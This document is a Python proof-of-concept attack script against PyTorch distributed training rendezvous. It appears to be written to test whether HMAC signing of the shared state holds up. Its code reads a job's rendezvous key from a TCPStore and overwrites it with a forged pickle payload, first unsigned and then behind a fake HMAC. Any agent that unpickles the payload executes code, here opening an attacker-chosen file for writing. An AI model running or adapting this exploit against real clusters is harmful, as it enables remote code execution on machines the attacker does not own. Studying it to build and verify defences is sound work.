"""An attacker on the job's network, with a TCPStore client and nothing of the job's secret:

  attack.py read HOST PORT RUN_ID           the rendezvous state as the store holds it, to stdout
  attack.py forge HOST PORT RUN_ID PATH     writes a state whose unpickling would create PATH:
                                            torch's own format, then one behind a wrong HMAC

RUN_ID is the one the job's keys are named after, as someone who sniffed its traffic knows it.
"""

import base64
import pickle
import sys
import time
from datetime import timedelta

from torch.distributed import TCPStore

MAGIC = b"py_distributed/hmac-sha256\n"  # what a signed state starts with (launch/signed_state)


class Payload:
    """Creates a file when unpickled: code of the attacker's choice, run by whoever loads it."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def main(action: str, host: str, port: str, run_id: str, *rest: str) -> None:
    store = TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=10))
    key = f"torch.rendezvous.{run_id}"
    if action == "read":
        sys.stdout.buffer.write(store.get(key))
        return
    (path,) = rest
    forged = pickle.dumps(Payload(path))
    for value in (forged, MAGIC + bytes(32) + forged):
        store.set(key, base64.b64encode(value))
        time.sleep(1.5)  # every agent reads the state at least once a second


if __name__ == "__main__":
    main(*sys.argv[1:])
